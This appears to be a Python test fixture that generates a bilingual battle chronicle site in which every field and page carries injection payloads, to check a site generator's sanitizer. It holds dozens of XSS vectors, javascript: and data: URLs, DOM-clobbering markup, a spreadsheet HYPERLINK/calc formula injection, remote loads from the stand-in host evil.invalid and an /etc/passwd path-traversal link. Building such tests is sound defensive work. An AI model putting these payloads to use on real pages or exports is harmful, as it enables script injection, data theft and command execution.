"""A chronicle in which every field and every text attacks the page that shows it.

What an attack does is call `taken` of the outermost window, or ask the host EVIL for something; each says
by its name where it came from.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path

from chronicles import SMALL, front, write_chronicle
from histories import commit, git
from pictured import draw, encode, put_picture

EVIL = "evil.invalid"
SOURCE_URL = "https://a.invalid/(x)?a=b&c={d}`$|;,%0d%0aX:1"


def say(name: str) -> str:
    """Such words as YAML reads them."""
    return json.dumps(words_of(name), ensure_ascii=False)


def words_of(name: str) -> str:
    """Words that end whatever they may stand in - an attribute, an element, a script, a comment, a quoted
    string, a template, a line - and then act.
    """
    take = f"top.taken(/{name}/)"
    return (
        f"قول {name} \"'><script>{take}</script></title></textarea></style></script>-->"
        f"<img src=https://{EVIL}/{name} onerror={take}><svg onload={take}>]]>"
        f"`${{{take}}}` '+{take}+' {{{{ 7 * 7 }}}} {{% raw %}} {{title}} {{0}} %s \\1 \\\" "
        "<!--<script> &lt;b&gt; $&"
        "\rTAKEN:1\r}, @misc{taken, x = {\rTY  - TAKEN"
    )


def shown(name: str) -> str:
    """The words as a page shows them: on one line."""
    return " ".join(words_of(name).split())


def say_in(name: str) -> str:
    """Such words in both languages."""
    return f"{{ar: {say(f'{name}-ar')}, en: {say(f'{name}-en')}}}"


def formula(sign: str) -> str:
    """What a program for tables would take for a formula."""
    return f'{sign}HYPERLINK("https://{EVIL}/formula","قول")|\'/C calc\'!A0'


def say_formula(sign: str) -> str:
    """The same as YAML reads it."""
    return json.dumps(formula(sign), ensure_ascii=False)


_TAKE = "top.taken(/{name}/)"
# What a text may try where a check only warns, or finds nothing: by name, so that each says what it was.
TEXTS: dict[str, str] = {
    "script": "<script>{take}</script>",
    "mixed-case": "<ScRiPt >{take}</sCrIpT >",
    "script-in-script": "<scr<script>ipt>{take}</scr</script>ipt>",
    "script-unclosed": "<p>x<script>{take}//",
    "script-of-module": '<script type="module" src="https://{evil}/module.js"></script>',
    "script-from-data": '<script src="data:text/javascript,{take}"></script>',
    "svg-script": '<svg xmlns="http://www.w3.org/2000/svg"><script>{take}</script></svg>',
    "svg-onload": "<svg/onload={take}>",
    "svg-animate": "<svg><animate onbegin={take} attributeName=x dur=1s></svg>",
    "svg-foreign": "<svg><foreignObject><iframe srcdoc='<script>{take}</script>'></iframe></foreignObject>",
    "svg-use": '<svg><use href="https://{evil}/use.svg#x"/></svg>',
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;svg onload={take}&gt;">',
    "math-link": '<math><maction xlink:href="javascript:{take}">x</maction></math>',
    "math-style": "<math><mtext></p><style><svg onload={take}></style></mtext></math>",
    "noscript": '<noscript><p title="</noscript><svg onload={take}>"></noscript>',
    "template": "<template><svg onload={take}></template>",
    "title-in-text": '<title><p title="</title><svg onload={take}>"></title>',
    "textarea": '<textarea><p title="</textarea><svg onload={take}>">',
    "xmp": '<xmp><p title="</xmp><svg onload={take}>"></xmp>',
    "comment": "<!--><svg onload={take}>-->",
    "comment-bang": "<!-- --!><svg onload={take}> -->",
    "cdata": "<![CDATA[><svg onload={take}>]]>",
    "instruction": "<?x ><svg onload={take}>?>",
    "iframe": "<iframe srcdoc='<script>{take}</script>'></iframe>",
    "object": '<object data="data:text/html,&lt;script>{take}&lt;/script>"></object>',
    "embed": '<embed src="data:image/svg+xml,&lt;svg onload={take}>">',
    "frameset": "<frameset onload={take}><frame src=x></frameset>",
    "base": '<base href="https://{evil}/base/">',
    "refresh": '<meta http-equiv="refresh" content="1;url=https://{evil}/refresh">',
    "link": '<link rel="stylesheet" href="https://{evil}/link.css">',
    "preload": '<link rel="prefetch" href="https://{evil}/prefetch">',
    "form": '<form action="https://{evil}/form"><input name=q autofocus onfocus={take}>'
    '<button formaction="https://{evil}/button">x</button></form>',
    "style": '<style>@import "https://{evil}/import.css"; body {{display: none}}</style>',
    "style-attribute": '<p style="position:fixed;inset:0;background:url(https://{evil}/background)">x</p>',
    "style-of-a-cell": '<table><tr><td style="text-align:center;'
    'background:url(https://{evil}/cell)">x</td></tr></table>',
    "columns": "| a | b |\n|:-:|--:|\n| 1 | 2 |",
    "background": '<table background="https://{evil}/table">'
    '<tr><td background="https://{evil}/td">x</td></tr></table>',
    "video": '<video src=x onerror={take} poster="https://{evil}/poster"></video>'
    "<audio src=x onerror={take}></audio>",
    "details": "<details open ontoggle={take}><summary>x</summary>x</details>",
    "focus": "<a href=# onfocus={take} tabindex=1 autofocus>x</a>",
    "handler-over-lines": '<p\nonmouseover\n=\n"{take}">x</p>',
    "handler-slashed": '<p/onmouseover="{take}"/onclick={take}>x</p>',
    "handler-in-markdown": '<div markdown="1" onclick="{take}">\n*x*\n</div>',
    "marquee": "<marquee onstart={take}>x</marquee>",
    "body": "<body onload={take} onpageshow={take}>",
    "popover": "<button popovertarget=x>x</button><p popover id=x onbeforetoggle={take}>x</p>",
    "shadow": '<div><template shadowrootmode="open"><script>{take}</script></template></div>',
    "custom": '<x-y is="z" onclick={take}>x</x-y>',
    "list-of-attributes": "x\n{{: onclick={take} style=position:fixed .notice #content name=content }}",
    "heading-of-attributes": "## x {{: onclick={take} #explorer data-words=[] }}",
    "fence-of-attributes": "```{{ .x onclick={take} data-x=1 }}\nx\n```",
    "fence": '```html"><script>{take}</script>\nx\n```',
    "footnote": "x[^<script>{take}</script>]\n\n[^<script>{take}</script>]: <script>{take}</script>",
    "abbreviation": '\n*[HTML]: "><script>{take}</script>\n\nHTML',
    "title-of-link": "[x](https://a.invalid/ '\"><script>{take}</script>')",
    "address-ends": '[x](https://a.invalid/"onmouseover="{take})',
    "note": '!!! note "<script>{take}</script>"\n    <script>{take}</script>',
    "note-of-class": '!!! note" onclick={take} class=\n    x',
    "definition": "term <script>{take}</script>\n:   <script>{take}</script>",
    "cell": "| a |\n|---|\n| <script>{take}</script> <svg onload={take}> |",
    "words-of-link": "[[al-qaim|<script>{take}</script>]] [[al-qaim|<b onclick={take}>x</b>]]",
    "entities": "&lt;script&gt;{take}&lt;/script&gt; &#60;script&#62;{take}&#60;/script&#62;",
    "code": "`<script>{take}</script>`\n\n    <script>{take}</script>",
    "clobber": '<a id="location" href="https://a.invalid/">x</a><p id="document">x</p>'
    '<p id="receiveChronicle">x</p>'
    '<a id="search" href="https://a.invalid/">x</a><div id="explorer" class="today" data-words="[]">x</div>'
    '<div id="search" data-root="https://{evil}/" data-home="https://{evil}/">x</div>'
    '<div id="content">x</div><p id="__proto__">x</p><p name="location">x</p>'
    '<div id="fn:x" class="prose notice">x</div>',
    "clobber-footnote": '<p id="fn"></p><p id="h-x" class="status">x</p>',
    "class-of-ours": '<div class="search today map notice status masthead skip">x</div>'
    '<p class="notice">x</p>'
    '<a class="skip" href="https://a.invalid/">x</a>'
    '<sup class="citation"><a class="citation" href="#x">[1]</a></sup>',
    "pseudo-comment": '<a title="-->" x="<script>{take}</script>">x</a>',
    "nested-quotes": "<p title='`\"><svg onload={take}>`'>x</p>",
    "nul-like": "<scr&#0;ipt>{take}</scr&#0;ipt>",
}
# What a check refuses, and the code it does so under.
REFUSED: dict[str, tuple[str, str]] = {
    "javascript": ("[x](javascript:{take})", "unsafe-address"),
    "javascript-mixed": ("[x](JaVaScRiPt:{take})", "unsafe-address"),
    "javascript-entity": ("[x](javascript&colon;{take})", "unsafe-address"),
    "javascript-number": ("[x](&#106;avascript:{take})", "unsafe-address"),
    "javascript-break": ('<a href="java&#10;script:{take}">x</a>', "unsafe-address"),
    "javascript-tab": ('<a href="java\tscript:{take}">x</a>', "unsafe-address"),
    "javascript-tab-named": ("[x](java&Tab;script:{take})", "unsafe-address"),
    "javascript-control": ('<a href="&#1;javascript:{take}">x</a>', "control-character"),
    "javascript-angle": ("[x](<javascript:{take}>)", "unsafe-address"),
    "javascript-reference": ("[x][y]\n\n[y]: javascript:{take}", "unsafe-address"),
    "javascript-reference-below": ("[x][y]\n\n[y]:\n    javascript:{take}", "unsafe-address"),
    "javascript-auto": ("<javascript:{take}>", "unsafe-address"),
    "javascript-unquoted": ("<a href=javascript:{take}>x</a>", "unsafe-address"),
    "javascript-list": ("[x](#){{: href=javascript:{take} }}", "unsafe-address"),
    "data": ("[x](data:text/html,<script>{take}</script>)", "unsafe-address"),
    "vbscript": ("[x](vbscript:{take})", "unsafe-address"),
    "blob": ("[x](blob:https://a.invalid/1)", "unsafe-address"),
    "view-source": ("[x](view-source:https://a.invalid/)", "unsafe-address"),
    "file": ("[x](file:///etc/passwd)", "unsafe-address"),
    "no-scheme": ("[x](//{evil}/x)", "unsafe-address"),
    "svg-link": ('<svg><a xlink:href="javascript:{take}"><text y=20>x</text></a></svg>', "unsafe-address"),
    "image": ("<img src=x onerror={take}>", "picture-by-address"),
    "image-in-a-comment": ("<!-- --!><img src=x onerror={take}> -->", "picture-by-address"),
    "image-in-a-style": ("<math><mtext></p><style><img src=x onerror={take}></style>", "picture-by-address"),
    "stash": ("&#2;wzxhzdk:0", "control-character"),
    "mark": ("&#xe003;", "control-character"),
    "turned": ("&#x202e;x", "bidi-control"),
    "turned-by-name": ("&rlm;x", "bidi-control"),
    "remote-picture": ("![x](https://{evil}/x.png)", "remote-picture"),
    "remote-picture-html": ('<img src="https://{evil}/x.png">', "remote-picture"),
    "remote-picture-source": (
        '<picture><source srcset="https://{evil}/x.png 2x"></picture>',
        "remote-picture",
    ),
    "picture-by-file": ("![x](../media/x.png)", "picture-by-address"),
    "picture-up": ("![x](../../../../etc/passwd)", "picture-by-address"),
}


def act(name: str, text: str) -> str:
    """A text of the lists with what it does put in."""
    return text.format(take=_TAKE.format(name=name), evil=EVIL)


# A sentence or two, so that a text is in its language whatever else stands in it.
_ARABIC = "بدأ الهجوم على المدينة من أربع جهات عند الفجر، وكانت القوات قد وصلت إليها في الليل."
_ENGLISH = "The attack on the town began at dawn."
# What is never closed takes all that follows with it, and stands alone.
_UNCLOSED = ("script-unclosed", "math", "textarea", "body")
_CLOSED = [name for name in TEXTS if name not in _UNCLOSED]
GROUPS = [
    *((name,) for name in _UNCLOSED),
    *(_CLOSED[start : start + 10] for start in range(0, len(_CLOSED), 10)),
]


def end_of(name: str) -> str:
    """The sentence after an attack: where it is seen, the attack took nothing with it."""
    return f"That was {name}."


def _write_group(lead: str, names: Sequence[str]) -> str:
    tried = (f"{act(name, TEXTS[name])}\n\n{lead}\n\n{end_of(name)}" for name in names)
    return "\n\n".join((lead, *tried))


_PAGES = {
    f"pages/try-{number}{ending}": front(f"title: {title}", _write_group(lead, names))
    for number, names in enumerate(GROUPS)
    for ending, title, lead in ((".md", "صفحة", _ARABIC), (".en.md", "Page", _ENGLISH))
}
BATTLE = "battles/2017/al-qaim-2017"
_WORDS = {
    f"{BATTLE}.md": front(
        f"""
        title: {say("title-ar")}
        summary: {say("summary-ar")}
        kind: offensive
        date: 2017-10-26/2017-11-17
        part_of: western-iraq-2017
        places: [al-qaim]
        sides:
          - actors: [iraqi-army]
            commanders: [qasim-al-muhammadi]
          - actors: [islamic-state]
        control:
          - place: al-qaim
            date: 2017-11-03
            from: islamic-state
            to: iraqi-army
            source: reuters-2017-10-27
            note: {say_in("control-note")}
        figures:
          - measure: killed
            best: 3
            said_by: iraqi-army
            source: reuters-2017-10-27
            note: {say_in("figure-note")}
        sources: [reuters-2017-10-27]
        pictures: [road]
        ids: {{wikidata: {say("battle-id")}, {say("scheme")}: {say("battle-id-of-a-scheme")}}}
        corrections:
          - {{date: 2026-11-23, text: {say_in("correction")}}}
        """,
        f"{_ARABIC} [[al-qaim]] [[islamic-state]] [[western-iraq-2017]] [@reuters-2017-10-27]\n\n![[road]]\n",
    ),
    f"{BATTLE}.en.md": front(
        f"title: {say('title-en')}\nsummary: {say('summary-en')}\n",
        f"{_ENGLISH} [[al-qaim]] [[islamic-state]] [@reuters-2017-10-27]\n\n![[road]]\n",
    ),
    "places/al-qaim.md": front(f"""
        names: {say_in("place")}
        aliases: {{ar: [{say("alias-ar")}], en: [{say("alias-en")}, {say_formula("=")}, {say_formula("@")}]}}
        kind: city
        within: anbar
        coordinates: [34.39, 40.99]
        ids: {{geonames: {say("place-id")}}}
        previous_ids: [qaim-of-old]
        """),
    "places/anbar.md": front(f"""
        names: {say_in("governorate")}
        kind: governorate
        coordinates: [32.9, 41.8]
        """),
    "actors/islamic-state.md": front(f"""
        names: {say_in("actor")}
        short: {say_in("short")}
        aliases: {say_in("actor-alias")}
        kind: armed-group
        ids: {{wikidata: {say("actor-id")}}}
        """),
    "actors/qasim-al-muhammadi.md": front(f"""
        names: {say_in("person")}
        kind: person
        office: {say_in("office")}
        """),
    "campaigns/western-iraq-2017.md": front(
        f"title: {say('campaign-ar')}\nsummary: {say('campaign-summary-ar')}\ndate: 2017-09/2017-11", _ARABIC
    ),
    "campaigns/western-iraq-2017.en.md": front(
        f"title: {say('campaign-en')}\nsummary: {say('campaign-summary-en')}", _ENGLISH
    ),
    "sources/reuters-2017-10-27.md": front(f"""
        publisher: {say_in("publisher")}
        title: {say("source-title")}
        language: ar
        date: 2017-10-27
        url: "{SOURCE_URL}"
        authors: [{say("author")}, {say_formula("=")}]
        note: {say_in("source-note")}
        kind: agency
        ids: {{doi: {say("doi")}, isbn: {say("isbn")}}}
        """),
    "pages/home.md": front(f"title: {say('home-ar')}", f"{_ARABIC} [[al-qaim-2017]]\n"),
    "pages/home.en.md": front(f"title: {say('home-en')}", f"{_ENGLISH} [[al-qaim-2017]]\n"),
}
_PICTURE = f"""
alt: {say_in("alt")}
caption: {say_in("caption")}
credit: {say_in("credit")}
licence: {{name: {say_in("picture-licence")}, url: "https://a.invalid/licence"}}
source: reuters-2017-10-27
graphic: true
warning: {say_in("warning")}
"""
_SETTINGS = f"""
title: {say_in("chronicle")}
description: {say_in("chronicle-description")}
licence: {{name: {say("licence")}, url: "https://a.invalid/licence"}}
hxl: true
translations: true
languages:
  - {{code: ar, name: {say("language-ar")}}}
  - {{code: en, name: {say("language-en")}}}
"""


def write_hostile(folder: Path) -> Path:
    """A chronicle all of whose words attack, in a repository: feeds need a history."""
    write_chronicle(folder, SMALL | _WORDS | _PAGES, settings=_SETTINGS)
    settings = folder / "mkdocs.yml"
    names = f"site_name: {say('site-name')}\nsite_description: {say('site-description')}\n"
    rest = settings.read_text(encoding="utf-8").split("\n", 2)[2]
    settings.write_text(names + rest, encoding="utf-8")
    put_picture(folder, "road.png", encode(draw(600, 400), "PNG"), _PICTURE)
    (folder / ".gitignore").write_text(".cache/\nsite/\n", encoding="utf-8")
    git(folder, "init", "--quiet", "--initial-branch=main")
    commit(folder, "2026-11-23")
    return folder
